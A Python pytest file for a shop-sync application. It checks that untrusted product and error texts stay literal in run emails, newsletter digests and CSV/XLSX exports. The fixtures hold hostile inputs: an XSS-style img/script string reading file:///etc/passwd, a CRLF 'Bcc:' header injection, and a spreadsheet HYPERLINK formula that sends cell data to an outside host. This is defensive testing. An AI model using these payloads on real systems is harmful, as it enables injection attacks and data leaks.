"""Texts from outside in messages and exports: kept as they are, never interpreted, never a header."""

from __future__ import annotations

import csv
import zipfile
from contextlib import closing
from decimal import Decimal
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from msgspec.structs import replace

from shopsync_gui.core.catalogue import ShopProduct
from shopsync_gui.core.errors import AccountRefused
from shopsync_gui.core.newsletter.digest import DigestPart, digest_document
from shopsync_gui.core.newsletter.letter import LetterProduct
from shopsync_gui.core.newsletter.letter_text import letter_text
from shopsync_gui.core.products.changes import ChangeKind
from shopsync_gui.core.runs.jobs import JobKind
from shopsync_gui.core.runs.mail import EmailText, MailAccount, MailKind, letter
from shopsync_gui.core.runs.runs import Difference, Failure, RunReport, RunState
from shopsync_gui.core.settings.settings import MailSecurity
from shopsync_gui.letters.compiler import html_of
from shopsync_gui.store import open_store
from shopsync_gui.store.search.query import GridQuery
from shopsync_gui.sync.outputs.export import Export, ExportColumn, export
from shopsync_gui.sync.outputs.export_files import separators
from shopsync_gui.system.mail import message_of
from tests.connected import connect_shop
from tests.virtual import EPOCH

MARK = (
    '<img src="file:///etc/passwd" onerror="x"><script>XSS</script> &lt;i&gt; &&Q %s {0} {name}'
    "\u202e\u2066 \"'"
)
TEXTS = {
    "markup": MARK,
    "header": MARK + "\r\nBcc: canary@other.example\r\n\r\nbody",
    "long word": MARK + "W" * 10_000,
    "lines": MARK + "\n" + "sor\n" * 1000,
    "formula": '=HYPERLINK("https://other.example/?"&A1,"' + MARK,
    "tab formula": "\t=1+1" + MARK,
    "controls": MARK + "\x00\x07\x1b[2J\x7f\ufffe",
}
HOSTILE = pytest.mark.parametrize("text", list(TEXTS.values()), ids=list(TEXTS))
ACCOUNT = MailAccount(
    host="localhost",
    port=25,
    security=MailSecurity.NONE,
    user="",
    sender="bolt@example.com",
    recipients=("marketing@example.com",),
)


class Tags(HTMLParser):
    """The elements, attributes and words of a page as a browser would take them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def sent(text: EmailText) -> dict[str, str]:
    """The message as it arrives: its parts by kind; only the headers that it should have."""
    message = message_from_bytes(
        message_of(ACCOUNT, text, EPOCH).as_bytes(policy=policy.SMTP), policy=policy.default
    )
    assert message["to"] == "marketing@example.com"
    assert message["bcc"] is None
    assert message["cc"] is None
    assert "\n" not in str(message["subject"])
    return {
        part.get_content_type(): part.get_content()
        for part in message.walk()
        if not part.is_multipart()
    }


@HOSTILE
@pytest.mark.parametrize("kind", [MailKind.COMPLETE, MailKind.TROUBLE, MailKind.MENDED])
def test_a_message_about_a_run_is_plain_text(text: str, kind: MailKind) -> None:
    refused = AccountRefused(service="x", name=text, status=400, detail=text).problem
    wrong = Difference(sku=text, sa_id=1, field="name", wanted=text, found=text)
    report = RunReport(
        run_id=1,
        kind=JobKind.SYNC,
        state=RunState.DONE if kind is not MailKind.TROUBLE else RunState.PARTIAL,
        connection_id=1,
        started_at=EPOCH,
        finished_at=EPOCH,
        problem=refused,
        failed=1,
        failures=(Failure(sku=text, name=text, problem=refused),),
        differences=(wrong,),
        difference_count=1,
        given_up=1,
        given_up_skus=(text,),
    )
    for state in (report, replace(report, problem=None)):
        parts = sent(letter(state, text, kind))
        assert parts.keys() == {"text/plain"}
        assert '<img src="file:///etc/passwd"' in parts["text/plain"]


@HOSTILE
def test_a_digest_shows_texts_and_obeys_none(text: str) -> None:
    product = LetterProduct(
        id=1,
        connection_id=1,
        sku=text,
        name=text,
        price=Decimal(1990),
        currency="HUF",
        stock=Decimal(3),
        image="https://bolt.example/a.jpg",
        page="https://bolt.example/a",
    )
    part = DigestPart(kind=ChangeKind.NEW, products=(product,), total=1)
    document = digest_document((part,), text, 1)
    assert document is not None
    parts = sent(EmailText(document.title, letter_text(document), html_of(document)))
    page = Tags()
    page.feed(parts["text/html"])
    names = {tag for tag, _attributes in page.elements}
    assert "script" not in names
    for _tag, attributes in page.elements:
        assert not any(name.startswith("on") for name in attributes)
        for name in ("src", "href"):
            address = attributes.get(name) or "https://"
            assert address.startswith(("https://", "mailto:", "#", "data:image/")), address
    assert "<script>XSS</script>" in page.words
    assert "<script>XSS</script>" in parts["text/plain"]


@HOSTILE
@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_an_export_holds_texts_and_no_formulas(text: str, ending: str, tmp_path: Path) -> None:
    with closing(open_store(tmp_path / "shopsync.db")) as store:
        connection = connect_shop(store, title=text)
        run = store.runs.start(JobKind.SYNC, connection.id, EPOCH)
        product = ShopProduct(
            inner_id="1", ref="1", sku=text, name=text, net=Decimal(1), gross=Decimal(1),
            vat=Decimal(27), currency="HUF", updated_at=EPOCH,
        )  # fmt: skip
        store.pull.land_page(run.run_id, connection.id, 0, 200, [product], EPOCH)
        path = tmp_path / f"ki.{ending}"
        columns = (ExportColumn.SKU, ExportColumn.NAME)
        assert export(store, Export(path, GridQuery(), columns)) == 1
    if ending == "csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file, delimiter=separators()[0]))
    else:
        with zipfile.ZipFile(path) as archive:
            assert not [name for name in archive.namelist() if "external" in name.lower()]
            sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        names = {element.tag.rpartition("}")[2] for element in sheet.iter()}
        assert not names & {"f", "hyperlink", "hyperlinks"}
        space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
        rows = [
            ["".join(cell.itertext()) for cell in row.findall(f"{space}c")]
            for row in sheet.iter(f"{space}row")
        ]
    assert len(rows) == 2, "one heading and one product, whatever line breaks it has"
    assert len(rows[1]) == 2
    for cell in rows[1]:
        assert '<img src="file:///etc/passwd"' in cell
        if ending == "csv":
            assert cell[0] not in "=+-@\t\r"
